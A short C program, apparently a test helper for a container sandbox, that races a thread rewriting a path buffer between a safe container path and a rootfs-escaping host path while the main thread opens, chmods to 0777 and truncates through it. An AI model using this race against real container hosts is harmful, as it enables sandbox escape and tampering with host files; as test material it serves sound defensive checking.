/* TOCTOU on the path in user memory: one thread rewrites a path buffer, byte by byte, between
 * argv[1] (a harmless container path) and argv[2] (one that leaves the rootfs if resolved on
 * the host), while the main thread opens it for write, creates, chmods and truncates through
 * it argv[3] times. Prints "ops=N". */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[4096];
static const char *paths[2];
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    for (unsigned i = 0; !atomic_load(&stop); i++) {
        const char *p = paths[i & 1];
        size_t len = strlen(p);
        for (size_t j = 0; j <= len; j++) {
            ((volatile char *)buf)[j] = p[j];
            if ((j & 7) == 0) __asm__ volatile("" ::: "memory");
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: flip_path SAFE ESCAPE N\n"); return 2; }
    long n = atol(argv[3]), ops = 0;
    pthread_t t;
    paths[0] = argv[1];
    paths[1] = argv[2];
    strcpy(buf, argv[1]);
    pthread_create(&t, NULL, flipper, NULL);
    for (long i = 0; i < n; i++) {
        int fd, r = -1;
        switch (i % 4) {
        case 0:
            fd = open(buf, O_WRONLY | O_CREAT | O_APPEND, 0644);
            if (fd >= 0) r = (int)write(fd, "flip\n", 5), close(fd);
            break;
        case 1: r = chmod(buf, 0777); break;
        case 2: r = truncate(buf, 2); break;
        case 3:
            fd = open(buf, O_RDWR | O_TRUNC);
            if (fd >= 0) r = 0, close(fd);
            break;
        }
        ops += r >= 0;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("ops=%ld\n", ops);
    return 0;
}
